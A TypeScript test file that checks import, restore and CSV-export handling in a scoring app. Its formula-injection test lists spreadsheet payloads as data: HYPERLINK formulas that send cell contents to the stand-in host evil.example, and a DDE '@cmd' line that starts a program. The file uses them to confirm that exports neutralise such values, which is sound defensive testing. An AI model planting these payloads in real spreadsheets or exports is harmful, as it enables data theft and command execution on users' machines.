// @vitest-environment node
import 'fake-indexeddb/auto';
import '../../lib/zod-jitless';
import { exportScoresCsv } from '../../lib/db/export-scores';
import { formatRestoreError, restoreBackup } from '../../lib/db/restore';
import { YardstickDatabase } from '../../lib/db/yardstick-database';
import { parseCsv } from '../../lib/exchange/csv-parse';
import { readImportBytes } from '../../lib/exchange/file-size-limit';
import { formatImportError, type ImportError } from '../../lib/exchange/import-problem';
import { mergeImports } from '../../lib/exchange/merge-imports';
import { mergeWarningLines } from '../../lib/exchange/merge-warnings';
import type { ScoreRecord } from '../../lib/scoring/score-record';
import {
  BAD_IMPORT_CATEGORIES,
  BAD_IMPORTS,
  FLAGGED_IMPORT_CATEGORIES,
  FLAGGED_IMPORTS,
  buildCorpusBase,
  countBadImports,
  layoutBackup,
  localRows,
  recount,
  resignBackup,
  seedDatabase,
  snapshotDatabase,
  type BadImportCase,
  type CorpusBase,
  type Expectation,
} from './bad-imports';

const now = new Date('2026-12-02T09:00:00Z');
let databaseCounter = 0;
const newDatabase = () => new YardstickDatabase(`bad-imports-${++databaseCounter}`);

let base: CorpusBase;
beforeAll(async () => {
  base = await buildCorpusBase(newDatabase);
});

function expectFragments(shown: string, expected: readonly Expectation[], input: string | Uint8Array): void {
  const inputText = typeof input === 'string' ? input : '';
  for (const expectation of expected) {
    const fragment = typeof expectation === 'function' ? expectation(inputText) : expectation;
    if (typeof fragment === 'string') expect(shown).toContain(fragment);
    else expect(shown).toMatch(fragment);
  }
}

const titled = (target: BadImportCase['target']) =>
  BAD_IMPORTS.filter((c) => c.target === target).map((c) => [`[${c.category}] ${c.name}`, c] as const);

// The 50 MB cases build and check large inputs on a shared two-core machine.
const LARGE_CASE_TIMEOUT = 120_000;

describe('bad imports and restores corpus', () => {
  it('has at least 50 cases with unique names, in every category', () => {
    expect(BAD_IMPORTS.length).toBeGreaterThanOrEqual(50);
    expect(new Set(BAD_IMPORTS.map((c) => c.name)).size).toBe(BAD_IMPORTS.length);
    const counts = countBadImports();
    for (const category of BAD_IMPORT_CATEGORIES) expect(counts[category].total).toBeGreaterThan(0);
    expect(Object.values(counts).reduce((sum, c) => sum + c.total, 0)).toBe(BAD_IMPORTS.length);
  });

  it('starts from files that are valid', async () => {
    const db = newDatabase();
    const restored = await restoreBackup(db, base.backupText, now);
    expect(restored.ok && restored.value.scores.added).toBe(6);
    for (const [file, text] of [
      ['alice.json', base.bundleText],
      ['bob.ndjson', base.ndjsonText],
      ['carol-ratings.csv', base.ratingsText],
      ['outcomes.csv', base.outcomesText],
    ] as const) {
      const read = await readImportBytes(file, new TextEncoder().encode(text));
      expect(read.ok).toBe(true);
    }
    db.close();
  });

  it.each(titled('import'))(
    '%s: refused, naming what and where',
    async (_title, badCase) => {
      const input = await badCase.build(base);
      const read = await readImportBytes(badCase.file, input);
      let error: ImportError;
      if (!read.ok) error = read.error;
      else {
        // Read like the audit page: a file that reads cleanly is then merged (cross-row rules).
        const merged = mergeImports([read.value]);
        if (merged.ok) throw new Error(`${badCase.name}: the file was accepted`);
        error = merged.error[0]!;
      }
      const shown = [error.summary, ...formatImportError(error)].join('\n');
      expectFragments(shown, badCase.expected, input);
    },
    LARGE_CASE_TIMEOUT,
  );

  it.each(titled('restore'))(
    '%s: refused, naming what and where, database unchanged',
    async (_title, badCase) => {
      const db = newDatabase();
      await seedDatabase(db, localRows());
      const before = await snapshotDatabase(db);
      const input = await badCase.build(base);
      const result = await restoreBackup(db, input, now, { file: badCase.file });
      expect(result.ok).toBe(false);
      if (result.ok) return;
      const shown = [result.error.summary, ...formatRestoreError(result.error)].join('\n');
      expectFragments(shown, badCase.expected, input);
      expect(await snapshotDatabase(db)).toBe(before);
      db.close();
    },
    LARGE_CASE_TIMEOUT,
  );
});

describe('flagged imports corpus: accepted, never silently', () => {
  it('covers every category', () => {
    for (const category of FLAGGED_IMPORT_CATEGORIES)
      expect(FLAGGED_IMPORTS.filter((c) => c.category === category).length).toBeGreaterThan(0);
  });

  it.each(FLAGGED_IMPORTS.map((c) => [`[${c.category}] ${c.name}`, c] as const))(
    '%s: the report shows what was wrong',
    async (_title, flagged) => {
      const files = await flagged.files(base);
      const read = [];
      for (const { file, text } of files) {
        const result = await readImportBytes(file, new TextEncoder().encode(text));
        if (!result.ok) throw new Error(formatImportError(result.error).join('\n'));
        read.push(result.value);
      }
      const merged = mergeImports(read);
      if (!merged.ok) throw new Error(merged.error.flatMap(formatImportError).join('\n'));
      const { summary, input } = merged.value;
      const shown = [
        ...mergeWarningLines(summary),
        ...summary.refused.flatMap((r) => formatImportError(r.error)),
      ].join('\n');
      expectFragments(shown, flagged.expected, '');
      if (flagged.raters !== undefined)
        expect(new Set(input.scores.map((s) => s.rater)).size).toBe(flagged.raters);
    },
  );
});

describe('formula injection round trip: stored as text, neutralised by the CSV export', () => {
  const FORMULAS = [
    '=HYPERLINK("https://evil.example/?q="&A1,"Open")',
    '+SUM(1+1)',
    '-2+3',
    "@cmd|' /C calc'!A0",
    '\t=1+1',
    ' =HYPERLINK("https://evil.example/?q="&A1,"Open")',
    '\n=1+1',
    '＝HYPERLINK("https://evil.example")',
    '\r\n@SUM(1)',
  ];

  it('a backup whose text fields hold formulas restores, and every exported cell is inert', async () => {
    const backup = base.backup();
    const scores = backup.scores as ScoreRecord[];
    scores.forEach((score, index) => {
      const formula = FORMULAS[index % FORMULAS.length]!;
      score.answers[0]!.evidence = formula;
      // Six scores, more formulas: the deal names carry the ones the evidence does not reach.
      score.deal.name.text = FORMULAS[(index + 6) % FORMULAS.length]!;
      score.deal.stage.text = formula;
    });
    scores[0]!.band.label = FORMULAS[0]!;
    recount(backup);
    await resignBackup(backup);
    const db = newDatabase();
    const restored = await restoreBackup(db, layoutBackup(backup), now);
    expect(restored.ok).toBe(true);
    const stored = await db.scores.get(scores[1]!.id);
    expect(stored?.answers[0]?.evidence).toBe(FORMULAS[1]);

    const csv = await exportScoresCsv(db);
    const parsed = parseCsv(csv);
    if (!parsed.ok) throw new Error(parsed.error.message);
    const cells = parsed.value.slice(1).flatMap((record) => record.fields);
    for (const formula of FORMULAS) expect(cells).toContain(`'${formula}`);
    // No text cell starts (or, after white space, continues) like a formula, full-width forms included.
    const numeric = new Set(['level', 'total']);
    const header = parsed.value[0]!.fields;
    const textCells = parsed.value
      .slice(1)
      .flatMap((record) => record.fields.filter((_cell, i) => !numeric.has(header[i]!)));
    expect(textCells.filter((cell) => /^\s*[=+\-@＝＋－＠]/.test(cell))).toEqual([]);
    db.close();
  });

  it('a bundle whose evidence holds =HYPERLINK(…) imports as plain text', async () => {
    const bundle = base.bundle();
    bundle.scores[0].answers[0].evidence = FORMULAS[0];
    const { bundleChecksum } = await import('../../lib/exchange/bundle-checksum');
    bundle.checksum = { algorithm: 'SHA-256', value: await bundleChecksum(bundle) };
    const read = await readImportBytes('alice.json', JSON.stringify(bundle));
    expect(read.ok && read.value.kind === 'bundle' && read.value.bundle.scores[0]!.answers[0]!.evidence).toBe(
      FORMULAS[0],
    );
  });
});
